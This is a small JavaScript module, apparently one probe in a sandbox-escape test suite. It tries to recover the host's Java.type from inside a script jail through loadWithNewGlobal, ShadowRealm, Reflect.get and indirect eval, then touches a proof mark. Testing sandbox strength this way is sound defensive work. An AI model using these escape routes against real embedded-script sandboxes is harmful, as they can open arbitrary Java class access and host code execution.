// proof: mark
// behind: jail
// Gets the functions back that the sandbox took away, from a new global object.
import { first, touchWith } from './routes.mjs';

export default (input) => first(
  () => touchWith(loadWithNewGlobal({ name: 'x', script: 'Java.type' }), input.mark),
  () => touchWith(new ShadowRealm().evaluate('Java.type'), input.mark),
  () => touchWith(Reflect.get(globalThis, 'Java').type, input.mark),
  () => touchWith((0, eval)('Java').type, input.mark),
);
